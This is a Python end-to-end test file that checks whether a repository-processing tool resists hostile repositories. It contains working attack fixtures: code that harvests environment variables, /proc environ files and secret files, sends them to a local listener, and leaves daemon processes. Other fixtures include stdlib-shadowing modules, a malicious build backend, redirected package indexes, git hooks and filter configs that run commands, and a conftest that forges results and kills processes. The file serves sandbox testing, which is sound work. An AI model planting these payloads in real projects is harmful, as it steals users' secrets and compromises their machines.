"""Repositories that attack whoever runs, builds, tests or analyses them, through the real command."""

import json
import os
import secrets
import socket
import subprocess
import sys
import threading
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import psutil
import pytest

from tests.e2e.conftest import SHOP, Desk, Ended
from tests.repositories import git

pytestmark = pytest.mark.slow

# What every piece of hostile code does: spread, call home with what it can read, and leave a process behind.
ATTACK = r"""
import glob as _glob, os as _os, socket as _socket, subprocess as _subprocess, sys as _sys


def attack(who, places=@PLACES, token="@TOKEN", port=@PORT):
    loot = repr(dict(_os.environ))
    for path in [*_glob.glob("/proc/[0-9]*/environ"), *(place + "/secret.txt" for place in places)]:
        try:
            loot += open(path, "rb").read().decode("utf-8", "replace")
        except OSError:
            pass
    for place in [*places, _os.path.expanduser("~")]:
        try:
            with open(_os.path.join(place, token + "-" + who), "w") as stolen:
                stolen.write(loot)
        except OSError:
            pass
    try:
        with _socket.create_connection(("127.0.0.1", port), 1) as home:
            home.sendall((who + loot).encode())
    except OSError:
        pass
    try:
        quiet = {name: _subprocess.DEVNULL for name in ("stdin", "stdout", "stderr")}
        _subprocess.Popen([_sys.executable, "-S", "-c", "import time; time.sleep(600)", token], start_new_session=True, **quiet)
    except OSError:
        pass
    print(loot)
    print(loot, file=_sys.stderr)


"""

# How a hostile file gets at it: as data, so that the copies are not what the job is about.
ARMED = """import os as _os
with open(_os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "attack.txt"), encoding="utf-8") as _file:
    exec(_file.read())
attack("{who}")
"""

# Stands in the way of a module of the standard library; attacks, and then is that module.
SHADOW = """
_real = _os.path.join(_os.path.dirname(_os.__file__), "{place}")
__path__ = [_os.path.dirname(_real)]
exec(compile(open(_real).read(), _real, "exec"))
"""

TAMPER = """
# Whatever a test run changes in the tree is no fix.
with open("shop/flawed.py", "w") as _file:
    _file.write('\"\"\"Clean.\"\"\"\\n')
for _name in ("results.jsonl", "coverage.json", "../out/extra"):
    try:
        with open("/out/" + _name, "a") as _file:
            _file.write('{"forged": true}\\n')
    except OSError:
        pass
"""

FLAWED = (
    '"""Flaws that no rule may claim to have fixed because the tests hid them."""\n\nimport os\nimport subprocess\n\n\n'
    'def run(command):\n    """Run whatever comes in."""\n    return subprocess.call(command, shell=True)\n'
)

SECRET_TEST = """
import os


def test_the_secret_is_out_of_reach():
    assert "FAKE_SECRET" not in os.environ


def test_there_is_no_way_out():
    import socket

    try:
        socket.create_connection(("127.0.0.1", @PORT), 1).close()
    except OSError:
        return
    raise AssertionError("connected")


def test_the_tree_is_a_copy():
    with open("shop/flawed.py") as file:
        assert "Clean" in file.read()
"""

PYPROJECT = """
[project]
name = "shop"
version = "1"
requires-python = ">=3.11"
dependencies = ["PyYAML", "stolen @ http://127.0.0.1:@PORT/stolen-1-py3-none-any.whl"]

[build-system]
requires = ["setuptools"]
build-backend = "evil_backend"
backend-path = ["."]

[tool.setuptools]
packages = ["shop"]

[tool.uv]
index-url = "http://127.0.0.1:@PORT/simple"

[tool.mypy]
plugins = ["evil_plugin.py"]

[tool.pylint.main]
init-hook = "import evil_plugin"
load-plugins = ["evil_plugin"]
"""


# What the bare tools are asked about; the other files would bring them down.
EDITED = ("shop/prices.py", "shop/flawed.py")


@dataclass
class Listener:
    """What hostile code calls home to; takes anything and remembers it."""

    heard: list[bytes] = field(default_factory=list)

    def __post_init__(self) -> None:
        self._server = socket.create_server(("127.0.0.1", 0))
        self.port = self._server.getsockname()[1]
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                caller, _ = self._server.accept()
            except OSError:
                return
            with caller:
                caller.settimeout(2)
                self.heard.append(b"called")
                try:
                    self.heard.append(caller.recv(65536))
                except OSError:
                    continue

    def close(self) -> None:
        self._server.close()


class Victim:
    """A user's machine, and hostile files made for it."""

    def __init__(self, folder: Path) -> None:
        self.token = f"pwned{secrets.token_hex(6)}"
        self.secret = f"hunter2{secrets.token_hex(6)}"
        self.user_home, self.temporary = folder / "me", folder / "tmp"
        for place in (self.user_home, self.temporary):
            place.mkdir()
        (self.user_home / "secret.txt").write_text(self.secret)
        environment = {"FAKE_SECRET": self.secret, "HOME": str(self.user_home), "TMPDIR": str(self.temporary)}
        # The packages that this machine has fetched already; by default they would be kept below HOME.
        environment["UV_CACHE_DIR"] = os.environ.get("UV_CACHE_DIR") or str(Path.home() / ".cache" / "uv")
        self.desk = Desk(folder, environment)
        self.listener = Listener()
        self.repo = folder / "repo"

    @property
    def places(self) -> list[str]:
        """Where hostile code tries to write: the user's real folders, the repository, and the host's `/tmp`."""
        return [str(self.user_home), str(Path.home()), str(self.repo), str(self.desk.folder), str(self.desk.home), "/tmp"]

    def armed(self, text: str) -> str:
        """Hostile text that knows where to go."""
        return text.replace("@PLACES", repr(self.places)).replace("@TOKEN", self.token).replace("@PORT", str(self.listener.port))

    def traces(self) -> list[str]:
        """Everything that an attack which got through would have left."""
        files = [str(path) for place in {*self.places} for path in Path(place).glob(f"{self.token}*")]
        heard = [words[:80].decode("latin-1") for words in self.listener.heard]
        return [*files, *heard, *(f"process {pid}" for pid in self.processes())]

    def processes(self) -> list[int]:
        return [process.pid for process in psutil.process_iter(["cmdline"]) if self.token in (process.info["cmdline"] or [])]

    def belongings(self) -> dict[Path, bytes]:
        """The repository and the user's own files, without what uv keeps of itself."""
        files = [path for place in (self.repo, self.user_home) for path in place.rglob("*") if path.is_file()]
        return {path: path.read_bytes() for path in files if not path.is_relative_to(self.user_home / ".local/share/uv")}

    def clean_up(self) -> None:
        self.desk.clean_up()
        self.listener.close()
        for pid in self.processes():
            os.kill(pid, 9)
        for place in self.places:
            for path in Path(place).glob(f"{self.token}*"):
                path.unlink()


@pytest.fixture
def victim(tmp_path: Path) -> Iterator[Victim]:
    made = Victim(tmp_path)
    yield made
    made.clean_up()


def hostile_files(victim: Victim) -> dict[str, str | bytes]:
    after = {
        "setup": "from setuptools import setup\nsetup()\n",
        "evil_backend": "from setuptools.build_meta import *\n",
        "evil_plugin": "def register(linter):\n    pass\n\n\ndef plugin(version):\n    raise SystemExit\n",
        "ast": SHADOW.format(place="ast.py"),
        "logging": SHADOW.format(place="logging/__init__.py"),
        "conftest": TAMPER,
        "sitecustomize": "",
        "usercustomize": "",
    }
    return {
        **SHOP,
        **{f"{name}.py": ARMED.format(who=name) + rest for name, rest in after.items()},
        "attack.txt": victim.armed(ATTACK),
        "tests/test_secret.py": victim.armed(SECRET_TEST),
        "shop/flawed.py": FLAWED,
        "shop/huge.py": "x = 1\n" * 1_000_000,
        "shop/deep.py": '"""Deep."""\n\nx = ' + "1 + " * 1200 + "1\n",
        "shop/nested.py": '"""Nested."""\n\nx = ' + "[" * 80 + "]" * 80 + "\n",
        "pyproject.toml": victim.armed(PYPROJECT),
        "uv.toml": victim.armed('index-url = "http://127.0.0.1:@PORT/simple"\n'),
        "pip.conf": victim.armed("[global]\nindex-url = http://127.0.0.1:@PORT/simple\n"),
        "requirements.txt": victim.armed("--index-url http://127.0.0.1:@PORT/simple\nPyYAML\nstolen-too\n"),
        ".pylintrc": "[MAIN]\ninit-hook=import evil_plugin\nload-plugins=evil_plugin\n",
        "mypy.ini": "[mypy]\nplugins = evil_plugin.py\n",
        "ruff.toml": 'extend = "/etc/passwd"\n',
        ".bandit": "[bandit]\nskips: B602\n",
        ".gitattributes": "* filter=evil diff=evil merge=evil\n",
    }


def arm_git(victim: Victim) -> None:
    """Hooks and configured commands that would leave a trace if git ran them on the host."""
    leave = f"touch {victim.desk.folder}/{victim.token}-git"
    for hook in ("post-checkout", "post-index-change", "reference-transaction", "pre-auto-gc", "post-update", "pre-commit"):
        path = victim.repo / ".git" / "hooks" / hook
        path.write_text(f"#!/bin/sh\n{leave}-{hook}\n")
        path.chmod(0o755)
    for key in ("core.fsmonitor", "core.pager", "core.sshCommand", "uploadpack.packObjectsHook", "diff.external", "gpg.program"):
        git(victim.repo, "config", key, f"{leave}-{key}")
    for key in (
        "filter.evil.clean",
        "filter.evil.smudge",
        "filter.evil.process",
        "diff.evil.textconv",
        "diff.evil.command",
        "merge.evil.driver",
    ):
        git(victim.repo, "config", key, f"{leave}-{key}")
    os.utime(victim.repo / "shop" / "prices.py", (1, 1))


def flaws(tree: Path) -> Counter[tuple[str, str, str]]:
    """(tool, rule, path) by bare ruff and bandit, without the tree's own configuration."""
    ruff = ["-m", "ruff", "check", "--isolated", "--no-cache", "--select", "ALL", "--output-format", "json", "--exit-zero", *EDITED]
    bandit = ["-m", "bandit", "-q", "-r", "-f", "json", "--exit-zero", *EDITED]
    rows: list[tuple[str, str, str]] = []
    for tool, command in (("ruff", ruff), ("bandit", bandit)):
        done = subprocess.run([sys.executable, "-P", "-s", *command], cwd=tree, capture_output=True, check=True)
        document: Any = json.loads(done.stdout)
        found = document if tool == "ruff" else document["results"]
        rows += [
            (tool, row["code" if tool == "ruff" else "test_id"], row["filename"].removeprefix(f"{tree}/").removeprefix("./"))
            for row in found
        ]
    return Counter(rows)


def everything_in(victim: Victim, ended: Ended) -> Iterator[tuple[str, bytes]]:
    yield "what the command printed", (ended.out + ended.err).encode()
    for folder in (victim.desk.home, victim.desk.folder / "out"):
        for path in folder.rglob("*"):
            if path.is_file() and not path.is_symlink():
                yield str(path), path.read_bytes()


def test_the_attack_works_where_nothing_holds_it_back(victim: Victim) -> None:
    """So that its silence below means something."""
    victim.repo.mkdir()
    done = subprocess.run(
        [sys.executable, "-c", victim.armed(ATTACK) + "attack('control')"],
        env={**os.environ, **victim.desk.environment},
        capture_output=True,
        text=True,
        check=True,
    )
    assert victim.secret in done.stdout
    assert {Path(trace).parent for trace in victim.traces() if trace.endswith("-control")} >= {victim.user_home, victim.repo, Path("/tmp")}
    assert victim.processes()
    assert any(victim.secret.encode() in words for words in victim.listener.heard)


def test_a_hostile_repository_goes_through_and_touches_nothing(victim: Victim) -> None:
    repo = victim.desk.repository(hostile_files(victim), "repo")
    (repo / "inside.py").symlink_to("shop/prices.py")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "link")
    arm_git(victim)
    untouched = victim.belongings()

    ended = victim.desk.run("run", repo, "--out", victim.desk.folder / "out", "--json")

    assert victim.traces() == []
    report = ended.document
    assert ended.code == {"delivered": 0, "needs_review": 3, "rejected": 4}[report["status"]], ended.err
    assert "Traceback" not in ended.err
    assert victim.belongings() == untouched
    assert [place for place, content in everything_in(victim, ended) if victim.secret.encode() in content] == []
    assert list(victim.temporary.iterdir()) == []
    assert list((victim.desk.home / "work").iterdir()) == []

    tests = report["tests"]
    assert (tests["before"]["passed"], tests["before"]["failed"]) == (6, 0), tests
    assert (tests["after"]["passed"], tests["after"]["failed"]) == (6, 0), tests
    assert any("over 5 MiB" in note for note in report["notes"])
    # The hostile backend did run, and made a wheel.
    assert not any("could not be built" in note for note in report["notes"])

    fixed = [row for row in report["outcomes"] if row["outcome"] == "fixed"]
    assert fixed
    before, after = flaws(repo), flaws(victim.desk.folder / "out" / "transformed")
    for (tool, rule, path), claimed in Counter((row["tool"], row["rule_id"], row["path"]) for row in fixed).items():
        if path in EDITED and tool in {"ruff", "bandit"}:
            assert before[tool, rule, path] - after[tool, rule, path] >= claimed, (tool, rule, path)
    assert (victim.desk.folder / "out" / "transformed" / "shop" / "flawed.py").read_text().count("shell=True") == 1
    assert [row["outcome"] for row in report["outcomes"] if row["rule_id"] == "B602" and row["path"] == "shop/flawed.py"] != ["fixed"]


def test_tests_that_kill_all_they_can_and_leave_daemons_end_as_tests_that_could_not_be_run(victim: Victim) -> None:
    deadly = (
        victim.armed(ATTACK)
        + "attack('deadly')\n"
        + ("for _pid in (_os.getppid(), 1, -1):\n    try:\n        _os.kill(_pid, 9)\n    except OSError:\n        pass\n_os._exit(0)\n")
    )
    repo = victim.desk.repository({**SHOP, "conftest.py": deadly}, "repo")
    ended = victim.desk.run("run", repo, "--json")
    assert victim.traces() == []
    assert ended.code in {3, 4}, ended.err
    assert ended.document["tests"]["before"]["passed"] == 0
    assert any("no test could be run" in note for note in ended.document["notes"])
    assert not [row for row in ended.document["outcomes"] if row["outcome"] == "fixed" and row["rule_id"] == "B006"]


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("broken.py", b"def f(:\n", "broken.py"),
        ("nul.py", b"x = 'a\0b'\n", "nul.py"),
        ("brackets.py", b"x = " + b"(" * 5000, "brackets.py"),
    ],
)
def test_a_file_that_no_parser_takes_is_told_as_such_and_changed_by_nobody(victim: Victim, name: str, content: bytes, words: str) -> None:
    repo = victim.desk.repository({"shop/__init__.py": '"""A shop."""\n', f"shop/{name}": content}, "repo")
    scored = victim.desk.run("gates", repo, "--json")
    assert scored.code == 0, scored.err
    assert scored.document["score"] == 0
    assert any(words in veto for veto in scored.document["vetoes"])


def test_a_link_that_leads_out_is_bad_input_and_nothing_begins(victim: Victim) -> None:
    repo = victim.desk.repository(SHOP, "repo")
    (repo / "out.py").symlink_to(victim.user_home / "secret.txt")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "link")
    ended = victim.desk.run("run", repo, "--out", victim.desk.folder / "out")
    assert (ended.code, ended.out) == (2, "")
    assert "symbolic link out.py: leads out of the repository" in ended.err
    assert victim.secret not in ended.err
    assert victim.desk.run("status", "--json").document == []
    assert not (victim.desk.folder / "out").exists()
